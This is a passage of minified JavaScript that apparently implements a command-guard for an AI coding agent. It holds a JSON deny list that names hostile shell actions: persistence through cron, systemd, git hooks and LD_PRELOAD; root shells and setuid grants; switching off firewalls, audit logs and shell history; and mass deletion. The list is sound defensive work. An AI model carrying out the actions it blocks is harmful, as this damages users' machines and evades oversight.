return t.some((s,r)=>Vr.disposable.has(s)||!e(s,r)&&D0(s).every(n=>Ut.disposable_name.test(n))||r>0&&Vr.disposable.has(`${t[r-1]}/${s}`)||Ut.package_store.test(
s)&&t.length>r+1)}var W0=[...q0].map(([t,{form:e,home:s}])=>({name:t,home:s,form:new RegExp(e)}));function M0(t,e){let s=e.findIndex(r=>/^\.\w/.test(r));return s===
-1||Ut.temp.test(t)?"":`~/${e.slice(s).join("/")}`}function F0(t,e,s){let r=t==="home"?`~/${e}`:e,n=t==="slash"||t==="unknown"?M0(e,s):r,i=W0.filter(({home:d,form:u})=>u.
test(r)||d&&u.test(n)).map(({name:d})=>d),a=s.findIndex(d=>d===".git"||d===".hg"||d===".svn"),l=()=>t==="slash"&&Ut.temp.test(e)||bi(s.slice(0,a));return a===-1||
/\.(lock|sample)$/.test(s.at(-1))||l()?i:/^(hooks|config|info|modules|config\.worktree)$/.test(s[a+1]??"")?[...i,"vcs","vcs-config"]:[...i,"vcs"]}var{programWords:nc,forms:Xe}=S,em=t=>t.every(e=>Xe.local_wrapper.test(e)),U0=t=>t.startsWith("mongo")||S.interpreters.get(t)?.language==="sql",Es=class t{constructor(e,s){
this.invocation=e;this.context=s;let{program:r,args:n}=e,o=r.startsWith("python")&&n[0]?.text==="-m"?n[1]?.text:void 0;this.program=o?.replace(/^awscli$/,"aws")??
H0(e);let i=dr(e,s.invocations);this.isSupplied=i!==n,this.words=o===void 0?i:i.slice(2);let{flags:a,options:l,operands:c}=$e(this.program,this.words);this.flags=
a,this.options=l,this.operands=c}invocation;context;program;flags;options;operands;affected;feeders;isSupplied;words;get recursive(){return this.isSupplied||/^(find|rimraf|rsync|tar|zip)$/.
test(this.program)||ue(this.flags,"-r","-R","--recursive","-Recurse")||this.operands.some(V0)}get isContained(){let{wrappers:e}=this.invocation,s=e.lastIndexOf(
Ar);return s!==-1&&em(e.slice(s+1))}get isInOwnContainer(){let{wrappers:e,args:s,client:r,environment:n}=this.invocation;if(!e.includes(Tr))return!1;let i=[...Object.
keys(r?.environment??n).map(l=>`${l}=`),...[...s,...r?.args??[]].map(({text:l})=>l)],a=e.slice(e.lastIndexOf(Tr)+1).filter(l=>l!==Ar&&!U0(l));return em(a)&&!i.some(
l=>Xe.other_place.test(l))}get root(){return this.invocation.wrappers.some(e=>nc.root_wrappers.has(e))}get downloaded(){let{program:e,operands:s,invocation:r}=this,
{path:n,folder:o,wrappers:i,input:a}=r,{downloads:l,fetched:c}=this.context;if(n.includes("://")||n.includes("/")&&l.has(n,o))return!0;let d=tm(e);return d&&s.slice(
0,1).some(({text:p})=>l.has(p,o))?!0:!(c||ce(r).some(Of))||Mr(r)?!1:e==="\uFFFC"?i.some(p=>tm(p)||p==="eval"):!d&&e!=="eval"?!1:[...s,...this.options.map(({value:p})=>p)].
some(({text:p})=>p.trim()==="\uFFFC"||p.startsWith("/dev/fd/"))||a?.kind==="text"&&a.text.includes("\uFFFC")&&s.length===0}get purpose(){if(!Uf(this.invocation,
this.words))return;let e=this.words.map(({text:s})=>s);return Bf(this.program,this,e)?"help":Vf(this.program,this,e)?"dry-run":void 0}get redirections(){let{redirects:e,
language:s,folder:r}=this.invocation,n=bt(":",[],e,r);return new t({...n,language:s},this.context)}get from(){this.feeders??=ce(this.invocation).map(n=>new t(n,
this.context));let e=this.feeders.findLastIndex(n=>n.program==="cut"&&n.printsNames),s=ce(this.feeders[e]?.invocation??{});return e>0&&this.feeders.slice(0,e).every(
({invocation:n})=>s.includes(n))?this.feeders.slice(e):this.feeders}get hasUnreadPath(){let e=this.invocation.folder?.text??"";return mn.some(s=>this.selectPaths(
s).some(({text:r})=>Le(e+r)))}get printsNames(){if(/^(?:grep|rg)$/.test(this.program)&&(this.flags.some(r=>Xe.counting_flag.test(r))||!this.invocation.captured&&
this.consumers.every(({program:r})=>Xe.counter.test(r))&&this.flags.some(r=>Xe.listing_flag.test(r))))return!0;let e=[this.program,...this.words.map(({text:s})=>s),
this.invocation.filter?.code??""];return Xe.printing_names.test(e.join(" ").trimEnd())}get consumers(){return this.context.invocations.filter(e=>ce(e).includes(
this.invocation))}get isMasked(){let{invocation:e,consumers:s}=this,r=c=>Xe.line_filter.test(le(c))&&c.redirects.every(({kind:d,path:u})=>d==="read"||u.text==="\
/dev/null"),n=s.find(c=>new t(c,this.context).printsNames);if(n===void 0||e.captured)return!1;let o=(c,d)=>ce(d).includes(c),i=s.filter(c=>!o(n,c));if(i.some(c=>c!==
n&&!o(c,n))||e.wrappers.length>0)return!1;let a=this.selectPaths("reads");return(Xe.secret_listing.test(this.program)?n.program==="jq"&&!this.words.some(({text:c})=>/^-v|^--v=/.
test(c)):n.program!=="jq"&&(a.length>0?a.every(({text:c})=>Xe.settings_file.test(c)):this.words.length===0||this.from.length>0))&&[e,...i.filter(c=>c!==n)].every(
r)}nameHandedOver(e,s){if(!s.has("credentials"))return s;let r=[...s].filter(p=>p!=="credentials");if(e==="reads"&&this.printsNames)return new Set(r);if([...s].
every(p=>p==="temp"||p.startsWith("credentials"))&&s.has("temp")&&(e!=="reads"||this.isOfNewFolder(e)))return new Set(r);let o=this.operands.map(({text:p})=>p),
i=Xe.text_filter.test(this.program)&&this.invocation.redirects.find(({kind:p})=>p==="write"),a=i?`${e} cp ${o.at(-1)} ${i.path.text}`:`${e} ${this.program} ${o.
join(" ")}`;if(Xe.sourcing.test(a))return new Set([...r,"handed-over"]);if(!Xe.copying.test(a))return s;let{invocations:l}=this.context,c=i?i.path.text:o.at(-1),
d=p=>Xe.file_test.test(le(p))&&p.args.some(({text:f})=>f===c),u=this.invocation.needs?.some(p=>d(p)&&!p.args.some(({text:f})=>f==="!"));return new Set(l.some(d)&&
!u?r:[...r,"from-template"])}isOfNewFolder(e){let{folder:s,invocations:r}=this.context,n=this.invocation.folder?.text??s??"",o=({text:i})=>Xe.in_new_folder.test(
i.startsWith("/")?i:`${n}/${i}`);return this.selectPaths(e).every(o)&&!r.some(({program:i})=>Xe.brings_files.test(i))}getPathClasses=ye(e=>{let{workspace:s,folder:r}=this.
context,n={workspace:s,folder:this.invocation.folder?.text??r},o=this.selectPaths(e).flatMap(a=>[...Zf(a,n)]),i=this.isContained?o.filter(a=>a==="credentials"):
o;return this.nameHandedOver(e,new Set(i))});selectPaths(e){let{program:s,args:r,redirects:n,input:o}=this.invocation,i=n.flatMap(({kind:c,path:d})=>c==="read"?
[]:[d]);if(e==="redirected")return i;if(e==="names")return s==="find"?En(r):this.operands;this.affected??=An(this.program,this);let a=this.affected[e];if(e==="w\
rites")return[...a,...i];if(e==="deletes")return Gl(a,this.invocation,this.context.invocations);if(e!=="reads")return a;let l=n.flatMap(({kind:c,path:d})=>c==="\
read"?[d]:[]);return[...a,...l,...o?.kind==="file"?[o.path]:[]]}},V0=({text:t,glob:e})=>e&&/(?:^|\/)\*\*(?:\/|$)/.test(t);function H0({program:t,path:e,wrappers:s}){
if(t==="k")return"kubectl";let r=Xe.package_runner.test(s.at(-1)??"");return nc.machine_programs.has(t)&&(r||/^[^/~]+\//.test(e))?`./${t}`:(r?t.replace(/(?<=.)@[\w.^~-]+$/,
""):t).replace(/\.exe$/i,"").replace(/^(python|pip|ruby|perl|php|node|lua)[\d.]+$/,"$1")}var tm=t=>nc.script_runners.has(t.toLowerCase());var yi=class{rules;byProgram=new Map;byEffect=new Map;phrased=new Map;constructor(e){this.rules=[...e].sort((s,r)=>Mt[s.severity]-Mt[r.severity]),this.rules.forEach(
(s,r)=>{for(let n of s.match??[])this.enter({rule:s,condition:n,at:r})})}hasUnreadRisk(e,s,r){let{program:n,path:o,args:i,redirects:a,folder:l}=e;if(Le(o))return!0;
let c=({text:h})=>Le(h),d=i.some(c);if(!d&&!a.some(h=>c(h.path))&&!(l&&c(l)))return!1;let u=new Es(e,s);if(u.hasUnreadPath||!d)return u.hasUnreadPath;let p=u.operands.
some(c);if(n.includes("\uFFFC")||p&&S.roles.has(u.program))return!0;let f=!p&&u.options.some(({value:h})=>c(h))?"values":"any";return[this.byProgram.get(u.program)??
[],...this.byEffect.values()].flat().some(h=>oc(h,r)&&Xf(u,h.condition,f))}findWorstCaseRule(e,s,r){let n=e.args.some(({text:o})=>/^-\w*[rRf]|^--recursive|^--force/.
test(o));for(let[o,{only:i}]of S.candidates){if(o==="rm"&&!n)continue;let a=this.findBrokenRule(new Es({...e,program:o,path:o},s),r);if(a&&(!i||i.includes(a.id)))
return a}}findBrokenRule(e,s){let r=this.first(e,s);if(!r||e.purpose===void 0)return r;let{redirects:n}=e.invocation,o=n.length>0?this.first(e.redirections,s):void 0,
i=e.purpose==="help"?void 0:this.first(e,s,G0);return this.selectWorse(o,i)}first(e,s,r=n=>!0){let n,o=[...this.byEffect].map(([i,a])=>i===void 0||e.getPathClasses(
i).size>0?a:[]);for(let i of[this.byProgram.get(e.program)??[],...o].flat())n&&i.at>=n.at||!oc(i,s)||!r(i.rule)||!Kf(e,i.condition)||z0(i.rule,e)||(n=i);return n?.
rule}getPhraseRules(e){let s=`${e.trust} ${e.level}`,r=o=>o.phrases!==void 0&&oc({rule:o},e),n=this.phrased.get(s)??this.rules.filter(r);return this.phrased.set(
s,n),n}selectWorse(e,s){return!e||!s?e??s:this.rules.indexOf(s)<this.rules.indexOf(e)?s:e}enter(e){let{program:s,...r}=e.condition,n=tc.find(o=>r[o]!==void 0);if(!s||
s.some(o=>o.includes("*")))sm(this.byEffect,n,e);else for(let o of new Set(s))sm(this.byProgram,o,e)}};function oc({rule:t,condition:e},{trust:s,level:r}){return t.
trust!==void 0&&s>=t.trust?!1:r==="strict"||t.level!=="strict"&&e?.level!=="strict"}var B0=["files","privilege","persistence","processes","disks"];function z0({
spares:t,category:e},s){let r=B0.includes(e)||e==="git"&&s.operands[0]?.text!=="push";return s.isContained&&r||e==="databases"&&s.isInOwnContainer||e==="credent\
ials"&&s.isMasked||t?.includes("own-data")===!0&&Ff(s)||t?.includes("own-act")===!0&&Lf(s)}var G0=({code:t,category:e})=>t==="credential_file_protected"||e==="r\
emote-code";function sm(t,e,s){t.set(e,[...t.get(e)??[],s])}var rm=JSON.parse('[{"code":"destructive_operation_blocked","id":"startup-file","category":"persistence","severity":"severe","explanation":"This changes what ru\
ns when somebody logs in or starts a program. Set variables for the one command that needs them.","trust":4,"match":[{"writes":["startup"]},{"moves":["startup"]\
},{"writes":["source","inner","local-system","system","temp","outside"],"line":{"any":["*APT::Update::P*-Invoke*","*DPkg::P*-Invoke*","*\\"folderOpen\\"*"]}}]},{"\
code":"destructive_operation_blocked","id":"schedule","category":"persistence","severity":"severe","explanation":"This makes something run later by itself. Run \
what is needed now.","trust":4,"match":[{"writes":["schedule"]},{"program":["crontab"],"flags":{"none":["-l","-h","--help","-V"]}},{"program":["at","batch","atr\
m"],"flags":{"none":["-l","-V"]}},{"program":["systemctl"],"subcommand":["enable","link","edit","add-wants","set-default","set-environment","reenable"]},{"progr\
am":["systemd-run"],"flags":{"none":["--scope","--pipe","-P","--pty","-t","--wait","--help","--version"]}},{"program":["systemd-run"],"flags":{"any":["--on-acti\
ve","--on-calendar","--on-boot","--on-startup","--on-unit-active","--path-property"]}},{"program":["launchctl"],"subcommand":["load","bootstrap","submit","enabl\
e"]},{"program":["update-rc.d","chkconfig","rc-update","insserv"]},{"program":["loginctl"],"subcommand":["enable-linger"]},{"program":["pm2"],"subcommand":["sta\
rtup"]},{"program":["osascript"],"options":{"-e":["*make login item*","*make new login item*"]}},{"program":["schtasks"],"args":{"any":["/create","/CREATE","/Cr\
eate"]}},{"program":["reg","Set-ItemProperty","New-ItemProperty"],"args":{"any":["*CurrentVersion\\\\Run*","*CurrentVersionRun*","*Winlogon*"]}},{"program":["Regi\
ster-ScheduledTask","New-Service"]}]},{"code":"destructive_operation_blocked","id":"login-key","category":"persistence","severity":"severe","explanation":"This \
decides who may log in. Ask the person whose account it is.","match":[{"writes":["authorized-keys"]},{"program":["ssh-copy-id","ssh-import-id"]}]},{"code":"dest\
ructive_operation_blocked","id":"vcs-hook","category":"persistence","severity":"severe","explanation":"This changes what git runs or whom it believes, for every\
body who uses the repository after you.","trust":4,"match":[{"writes":["vcs-config"]},{"program":["git"],"subcommand":["config"],"args":{"any":["core.hooksPath"\
,"core.hookspath"],"none":[".husky*",".githooks*","./*","hooks*","scripts/*","git-hooks*",".hooks*","/dev/null","/nonexistent*"],"at_least":2},"flags":{"none":[\
"--get","--unset"]}},{"program":["git"],"subcommand":["config"],"args":{"any":["core.fsmonitor","core.fsMonitor","core.sshCommand","core.sshcommand","core.gitPr\
oxy","core.askPass","credential.helper","credential.*.helper","include.path","includeIf.*","url.*.insteadOf","url.*.insteadof","filter.*.*","init.templateDir","\
http.proxy","gpg.program","uploadpack.packObjectsHook"],"at_least":2,"none":["true","false",".git*","git-lfs*"]},"flags":{"none":["--get","--unset","--unset-all\
","--get-all"]}},{"program":["git"],"subcommand":["config"],"args":{"any":["http.sslVerify","http.sslverify"],"at_least":2,"none":["true"]},"flags":{"none":["--\
get","--unset","--unset-all","--get-all"]}},{"program":["git"],"subcommand":["config"],"args":{"any":["!*"],"at_least":2}},{"program":["git"],"subcommand":["con\
fig"],"args":{"any":["core.pager","core.editor","sequence.editor","diff.external","pager.*"],"at_least":2,"none":["less*","delta*","cat","vi*","nvim*","nano*","\
code*","more*","diff-so-fancy*","most","emacs*","true","false","bat*","subl*","difft*"]},"flags":{"none":["--get","--unset"]}},{"program":["git"],"subcommand":[\
"config set"],"args":{"any":["core.hooksPath","core.fsmonitor","core.sshCommand","credential.helper","include.path","http.proxy"],"none":["true","false"]}}]},{"\
code":"destructive_operation_blocked","id":"preloaded-code","category":"persistence","severity":"severe","explanation":"This loads code of yours into programs t\
hat are not yours. Run the program as it is.","trust":4,"match":[{"environment":{"LD_PRELOAD":["/tmp/*","/var/tmp/*","/dev/shm/*","./*","*evil*","*hook*"]}},{"e\
nvironment":{"LD_AUDIT":["/*","./*"]}},{"environment":{"DYLD_INSERT_LIBRARIES":["/*","./*"]}},{"environment":{"BASH_ENV":["/tmp/*","/dev/*","/var/tmp/*"]}},{"en\
vironment":{"PYTHONSTARTUP":["/tmp/*","/var/tmp/*"]}},{"environment":{"PROMPT_COMMAND":["*"]}},{"program":["export","declare","typeset"],"args":{"any":["PATH=/t\
mp/*","PATH=/var/tmp/*","LD_LIBRARY_PATH=/tmp/*","PYTHONPATH=/tmp/*"]}},{"program":["ldconfig"],"args":{"any":["/tmp/*","/var/tmp/*","/dev/shm/*"]}},{"program":\
["alias"],"args":{"any":["sudo=*","su=*","doas=*","ssh=*"],"none":["sudo=sudo *","ssh=ssh *"]}},{"program":["git"],"environment":{"GIT_SSH*":["./*","../*","/tmp\
/*","/var/tmp/*","/dev/shm/*","sh *","bash *","python*","node *","perl *"]}},{"program":["git"],"environment":{"GIT_PROXY_COMMAND":["./*","../*","/tmp/*","/var/\
tmp/*","/dev/shm/*","sh *","bash *","python*","node *","perl *"]}},{"program":["git"],"environment":{"GIT_CONFIG_KEY_*":["core.sshCommand","core.sshcommand","co\
re.gitProxy","core.askPass"],"GIT_CONFIG_VALUE_*":["./*","../*","/tmp/*","/var/tmp/*","/dev/shm/*","sh *","bash *","python*","node *","perl *"]}}]},{"code":"des\
tructive_operation_blocked","id":"package-manager-settings","category":"persistence","severity":"risky","explanation":"This changes where packages come from, or\
 what runs with them, for all that follows. Name the registry for the one command.","trust":3,"match":[{"program":["npm","pnpm","yarn"],"subcommand":["config se\
t"],"args":{"any":["registry*","script-shell*","//*","prefix*","*:registry*","strict-ssl*","proxy*","https-proxy*","cafile*"]}},{"program":["pip"],"subcommand":\
["config set"],"args":{"any":["global.*index*","global.trusted-host","install.trusted-host","site.*index*"]}},{"program":["defaults"],"subcommand":["write"],"ar\
gs":{"any":["*loginwindow*","*LoginHook*","/Library/*"]}}]},{"code":"destructive_operation_blocked","id":"root-shell","category":"privilege","severity":"severe"\
,"explanation":"This opens a session of another user in which nothing is checked. Run the one command that needs it.","trust":4,"match":[{"program":["sh","bash"\
,"zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval"],"via":["unshare"],"args":{"at_most":0},"flags":{"none":["-c"]}},{"program":["sh","bash\
","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval"],"line":{"any":["setuid 0","setgid 0"]},"args":{"at_most":0},"flags":{"none":["-c"]}},\
{"program":["sudo","doas","please","run0"],"flags":{"any":["-i","-s","--login","--shell"]}},{"program":["su"],"flags":{"none":["--help","--version"]}},{"program\
":["sh","bash","zsh","dash","ksh","fish"],"root":true,"args":{"at_most":0},"flags":{"none":["-c","-s","--version","--help"]}},{"program":["pkexec","machinectl"]\
,"args":{"any":["*sh","shell"]}},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval"],"via":["vim","vi","nvim","view\
","ex","ed","less","more","man","find","gdb","awk","gawk","mawk","git"],"args":{"at_most":0},"flags":{"none":["-c","-s","--version","--help"]}},{"program":["nse\
nter","newgrp"]},{"program":["sg"],"args":{"none":["scan","run","test","new","lsp","completions"]},"flags":{"none":["-p","--pattern","-l","--lang","-r","--rewri\
te","--help","--version"]}},{"via":["nsenter"]}]},{"code":"destructive_operation_blocked","id":"grant-rights","category":"privilege","severity":"severe","explan\
ation":"This gives rights to users or programs. Ask the person who runs the machine.","trust":4,"match":[{"program":["chmod"],"args":{"any":["u+s*","g+s*","g+xs\
*","ug+s*","gu+s*","+s*","a+s*","*,u+s*","*,+s*","u+xs*","u+rs*","+xs*","u=*s*","4755","4777","4711","4750","4555","4775","4700","6755","6777","04755","06755","\
04777","2755","2711","2555","2751","02755"]}},{"program":["install","mkdir"],"options":{"-m":["4755","4777","4711","4555","6755","6777","u+s*","04755"]}},{"prog\
ram":["install","mkdir"],"options":{"--mode":["4755","4777","4711","4555","6755","6777","u+s*","04755"]}},{"program":["setcap"],"flags":{"none":["-v"]}},{"progr\
am":["gpasswd","adduser","addgroup"],"args":{"any":["*sudo*","*wheel*","*admin*","*root*","*docker*","*lxd*","*disk*","*shadow*","*libvirt*","*adm","*adm,*"]}},\
{"program":["usermod"],"options":{"-G":["*sudo*","*wheel*","*admin*","*root*","*docker*","*lxd*","*disk*","*shadow*","*libvirt*","*adm","*adm,*"]}},{"program":[\
"usermod"],"options":{"--groups":["*sudo*","*wheel*","*admin*","*root*","*docker*","*lxd*","*disk*","*shadow*","*libvirt*","*adm","*adm,*"]}},{"program":["userm\
od"],"flags":{"none":["-G","--groups","--help","--version"]}},{"program":["gpasswd"],"flags":{"any":["-A","-M","-r","-R","-d","--administrators","--members"]}},\
{"program":["chsh"],"args":{"at_least":2}},{"program":["chsh"],"args":{"any":["./*","../*","/tmp/*","/var/tmp/*","/dev/shm/*","sh *","bash *","python*","node *"\
,"perl *"]}},{"program":["useradd","adduser","userdel","deluser","groupdel","groupmod","chpasswd","newusers","chage","passwd","vipw","vigr","pwconv","delgroup",\
"dsenableroot"],"flags":{"none":["--help","-S","--status","-l","--version"]}},{"program":["sysadminctl"],"flags":{"any":["-addUser","-deleteUser","-resetPasswor\
dFor","-secureTokenOn"]}},{"program":["sysadminctl"],"args":{"any":["interactive"]}},{"program":["dscl"],"args":{"any":["delete","create","append","change","pas\
swd","merge"]}},{"program":["dscl"],"flags":{"any":["-delete","-create","-append","-change","-passwd","-merge"]}},{"program":["dseditgroup"],"options":{"-o":["e\
dit","delete","create"]}},{"program":["fprintd-delete"]},{"program":["Remove-LocalUser"]},{"program":["faillock"],"flags":{"any":["--reset"]}},{"program":["visu\
do"],"flags":{"none":["--help","-c","--check","-V","--version"]}},{"writes":["accounts"]},{"program":["net"],"subcommand":["user","localgroup"],"args":{"at_leas\
t":1}}]},{"code":"destructive_operation_blocked","id":"switch-protection-off","category":"privilege","severity":"severe","explanation":"This switches a protecti\
on or the keeping of evidence off. Work with it, and say what it stands in the way of.","trust":4,"match":[{"program":["xhost"],"args":{"any":["+"]}},{"program"\
:["setenforce"],"args":{"any":["0","Permissive","permissive"]}},{"program":["ufw"],"subcommand":["disable","reset","default allow","--force"]},{"program":["ipta\
bles","ip6tables","ebtables"],"flags":{"any":["-F","--flush","-X","-P","--policy","-D"]}},{"program":["nft"],"subcommand":["flush","delete"]},{"program":["firew\
all-cmd"],"flags":{"any":["--panic-on","--remove-service","--add-port","--add-rich-rule","--set-default-zone"]}},{"program":["pfctl"],"flags":{"any":["-d","-F"]\
}},{"program":["systemctl","service","rc-service"],"args":{"any":["ufw*","firewalld*","apparmor*","auditd*","fail2ban*","iptables*","nftables*","rsyslog*","sysl\
og*","falco*","clamav*","crowdstrike*","falcon-sensor*","selinux*","systemd-journald*","osqueryd*"],"none":["status","is-active","show","is-enabled","start","ca\
t"]}},{"program":["aa-disable","aa-teardown","aa-complain","csrutil"],"args":{"none":["status","help"]}},{"program":["spctl"],"flags":{"any":["--master-disable"\
,"--global-disable","--add","--remove","--disable"]}},{"program":["capsh"],"flags":{"any":["--caps","--addamb","--uid","--user"]}},{"program":["set"],"subcomman\
d":["+o history"]},{"program":["xattr"],"flags":{"any":["-d","-c"]},"args":{"any":["com.apple.quarantine"]}},{"program":["update-ca-certificates","update-ca-tru\
st"],"line":{"any":["cp *","mv *","curl *","wget *","tee *","install *","ln *"]}},{"program":["trust"],"subcommand":["anchor"]},{"program":["security"],"subcomm\
and":["add-trusted-cert"]},{"program":["certutil"],"flags":{"all":["-A"]},"options":{"-t":["*C*","*T*"]}},{"program":["update-alternatives"],"flags":{"any":["--\
install","--set"]},"args":{"any":["*/sudo","*/ssh","*/su","/tmp/*"]}},{"program":["apparmor_parser"],"flags":{"any":["-R","--remove","-C","--Complain"]}},{"prog\
ram":["auditctl"],"flags":{"any":["-D"]}},{"program":["auditctl"],"options":{"-e":["0"]}},{"program":["auditctl"],"args":{"any":["0"]}},{"program":["sysctl"],"f\
lags":{"any":["-w","--write","-p","--load","--system"]}},{"program":["sysctl"],"args":{"any":["*=*"]}},{"program":["insmod","modprobe","rmmod","kexec","kldload"\
,"kextload"],"flags":{"none":["--help","-V","--version","-n"]}},{"program":["kmod"],"subcommand":["insert","remove","load","unload"]},{"program":["history"],"fl\
ags":{"any":["-c","-d"]}},{"program":["unset"],"args":{"any":["HISTFILE"]}},{"program":["export","declare"],"args":{"any":["HISTFILE=/dev/null","HISTSIZE=0","HI\
STFILESIZE=0"]}},{"program":["journalctl"],"flags":{"any":["--vacuum-time","--vacuum-size","--vacuum-files","--rotate"]}},{"program":["dmesg"],"flags":{"any":["\
-C","--clear","-c"]}},{"program":["wevtutil","Clear-EventLog"]},{"program":["Set-ExecutionPolicy","Set-MpPreference","Add-MpPreference","Disable-WindowsOptional\
Feature","netsh","bcdedit","vssadmin"]},{"program":["tc","ip"],"subcommand":["link set * down","route flush","route del","addr flush","link delete","rule flush"\
]},{"program":["ifconfig","ifdown","nmcli"],"args":{"any":["down","off"]}}]},{"code":"destructive_operation_blocked","id":"change-root","category":"privilege","\
severity":"severe","explanation":"This leaves the file system that you were given. Stay in it.","trust":4,"match":[{"program":["chroot","pivot_root","switch_roo\
t"]},{"via":["chroot"]}]},{"code":"destructive_operation_blocked","id":"delete-machine","category":"files","severity":"catastrophic","explanation":"This deletes\
 the file system, the operating system, or somebody\'s home. Delete by name inside the workspace.","match":[{"deletes":["root","home"]},{"deletes":["system-tree"\
],"recursive":true},{"program":["rsync"],"flags":{"any":["--delete","--delete-after","--delete-before","--delete-during","--delete-delay","--delete-excluded","-\
-del"]},"writes":["root","home","system-tree"]},{"program":["rm","rimraf"],"flags":{"any":["--no-preserve-root"]}}]},{"code":"destructive_operation_blocked","id\
":"delete-system-file","category":"files","severity":"severe","explanation":"This deletes a file of the system. What lies outside the workspace is not yours to \
delete.","trust":4,"match":[{"deletes":["system","accounts","schedule","kernel","device","socket"]},{"deletes":["local-system"],"recursive":true},{"program":["r\
m","unlink"],"args":{"any":["*/\\\\*"]},"deletes":["local-system"]},{"program":["rm","unlink","shred"],"deletes":["outside","local-system"],"names":["data"],"leve\
l":"strict"}]},{"code":"destructive_operation_blocked","id":"delete-temporary-folder","category":"files","severity":"severe","explanation":"This deletes the tem\
porary files of everybody on the machine. Delete your own, by name.","match":[{"deletes":["temp-root"]},{"program":["rsync"],"flags":{"any":["--delete","--delet\
e-after","--delete-before","--delete-during","--delete-delay","--delete-excluded","--del"]},"writes":["temp-root"]}]},{"code":"destructive_operation_blocked","i\
d":"delete-workspace","category":"files","severity":"severe","explanation":"This deletes the whole workspace or a folder around it. Name what is meant, one by o\
ne.","trust":4,"match":[{"deletes":["workspace"]}]},{"code":"destructive_operation_blocked","id":"delete-source","category":"files","severity":"severe","explana\
tion":"This deletes a folder that no build makes anew. Use git rm -r, which keeps what is not committed, or name the files.","trust":3,"match":[{"deletes":["sou\
rce-folder","personal","outside"],"recursive":true},{"program":["rm","unlink"],"args":{"any":["*/\\\\*"]},"deletes":["personal","outside"]},{"program":["rm","unli\
nk","del","shred"],"args":{"any":["/*\\\\*.pdf","/*\\\\*.doc*","/*\\\\*.xls*","/*\\\\*.ppt*","/*\\\\*.odt","/*\\\\*.ods","/*\\\\*.tif*","/*\\\\*.jp*g","/*\\\\*.heic","/*\\\\*.raw",\
"/*\\\\*.psd","/*\\\\*.mov","/*\\\\*.mp3","/*\\\\*.mp4","/*\\\\*.mkv","/*\\\\*.wav","/*\\\\*.flac","/*\\\\*.eml","/*\\\\*.mbox","/*\\\\*.dwg"]},"deletes":["outside","system","local\
-system"]},{"program":["rm","unlink"],"args":{"any":["~/\\ufffc/\\ufffc"]}},{"program":["rm","unlink"],"args":{"any":["*.tfstate","*.tfstate.backup"]},"level":"st\
rict"},{"deletes":["source","inner"],"recursive":true,"level":"strict"},{"program":["rm","unlink","del"],"args":{"any":["*/\\\\*","*\\\\*.ts","*\\\\*.tsx","*\\\\*.js","\
*\\\\*.py","*\\\\*.go","*\\\\*.rs","*\\\\*.java","*\\\\*.rb","*\\\\*.c","*\\\\*.cpp","*\\\\*.h","*\\\\*.php","*\\\\*.cs","*\\\\*.kt","*\\\\*.swift","*\\\\*.md","*\\\\*.mjs","*\\\\*.cjs","*\\\\\
*.jsx","*\\\\*.vue","*\\\\*.svelte","*\\\\*.pm","*\\\\*.pl","*\\\\*.t","*\\\\*.scala","*\\\\*.ex","*\\\\*.exs","*\\\\*.lua","*\\\\*.cc","*\\\\*.hpp","*\\\\*.dart","*\\\\*.R","*\\\\*.ipynb"\
,"*\\\\*.proto","*\\\\*.sql","*\\\\*.css","*\\\\*.scss"]},"deletes":["source","inner"],"level":"strict"},{"program":["zip"],"flags":{"any":["-m","--move"]},"level":"str\
ict"},{"program":["zip"],"moves":["personal","home","system"]},{"program":["7z","7za","7zz"],"flags":{"any":["-sdel"]},"level":"strict"},{"program":["cmd"],"lin\
e":{"any":["cmd*/c *del */s*","cmd*/c *rd */s*","cmd*/c *rmdir */s*","cmd*/C *del */s*","cmd*/C *rd */s*"]}},{"deletes":["personal","startup","logs"]},{"program\
":["fdupes","jdupes"],"flags":{"all":["-d","-N"]}},{"program":["fdupes","jdupes"],"flags":{"all":["--delete","--noprompt"]}},{"program":["rdfind"],"args":{"any"\
:["true"]},"flags":{"any":["-deleteduplicates"]}},{"program":["rdfind"],"options":{"-deleteduplicates":["true"]}},{"program":["hdfs","hadoop"],"flags":{"any":["\
-rm","-rmr","-expunge"]},"args":{"none":["/tmp/*"]}},{"program":["gphoto2"],"flags":{"any":["--delete-all-files","--delete-file"]}},{"program":["Clear-RecycleBi\
n"]},{"program":["trash-empty"],"args":{"at_most":0},"flags":{"none":["--help","-h","--version","--dry-run","-n"]}},{"program":["gio"],"subcommand":["trash"],"f\
lags":{"any":["--empty"]}},{"program":["osascript"],"options":{"-e":["*delete every item*","*delete every file*","*delete every folder*","*empty trash*","*empty\
 the trash*"]}}]},{"code":"destructive_operation_blocked","id":"delete-unknown","category":"files","severity":"severe","explanation":"Where this variable is emp\
ty, everything is deleted. Write ${NAME:?}, which stops there, or name the folder.","trust":4,"match":[{"deletes":["unknown-folder"]},{"moves":["unknown-folder"\
]},{"changes":["unknown-folder"],"recursive":true},{"program":["rm","shred","rimraf"],"via":["xargs","gxargs"],"recursive":true,"args":{"any":["\\ufffc"]}}]},{"c\
ode":"destructive_operation_blocked","id":"delete-vcs","category":"files","severity":"severe","explanation":"This deletes the repository with its history. Leave\
 .git alone.","trust":4,"match":[{"deletes":["vcs"]},{"moves":["vcs"]}]},{"code":"destructive_operation_blocked","id":"shred-files","category":"files","severity\
":"severe","explanation":"What is shredded cannot be brought back. Delete it in the ordinary way.","trust":3,"match":[{"program":["shred","srm","wipe","scrub"],\
"names":["root","system","home","personal","outside","workspace","source","data","logs","device","unknown"]}]},{"code":"destructive_operation_blocked","id":"emp\
ty-files","category":"files","severity":"severe","explanation":"This empties files; their content is gone. Edit them, or delete what is disposable.","trust":3,"\
match":[{"program":["truncate"],"options":{"--size":["0","0*","-*"]},"writes":["system","local-system","home","personal","outside","workspace","source","data","\
logs","vcs"]},{"program":["truncate"],"options":{"-s":["0","0*","-*","=0"]},"writes":["system","local-system","home","personal","outside","workspace","source","\
data","logs","vcs"]},{"program":["truncate"],"args":{"any":["*\\\\**"]},"writes":["inner","outside","workspace"]},{"program":["cp","dd","cat","mv"],"reads":["nowh\
ere"],"writes":["system","personal","vcs","data","logs"]},{"program":["echo","printf",":","true"],"redirected":true,"args":{"at_most":0},"writes":["personal"]},\
{"program":["cp"],"reads":["nowhere"],"writes":["source","inner"],"level":"strict"},{"program":["sed"],"flags":{"any":["-i"]},"args":{"any":["d","1,$d"]},"write\
s":["source","inner","workspace"],"level":"strict"}]},{"code":"destructive_operation_blocked","id":"move-away","category":"files","severity":"severe","explanati\
